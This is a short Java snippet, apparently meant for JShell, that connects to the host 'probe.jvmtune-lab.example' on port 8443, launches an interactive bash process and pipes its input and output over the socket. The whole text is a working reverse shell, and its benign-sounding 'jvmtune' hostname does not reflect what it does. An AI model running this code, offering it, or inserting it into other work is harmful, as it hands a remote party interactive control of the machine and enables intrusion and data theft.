import java.io.*;
import java.net.*;

var sock = new Socket("probe.jvmtune-lab.example", 8443);
var proc = new ProcessBuilder("/bin/bash", "-i").redirectErrorStream(true).start();

Thread pump(InputStream in, OutputStream out) {
    var t = new Thread(() -> {
        try { in.transferTo(out); out.flush(); } catch (IOException e) { }
    });
    t.start();
    return t;
}

pump(sock.getInputStream(), proc.getOutputStream());
pump(proc.getInputStream(), sock.getOutputStream());
proc.waitFor();
/exit
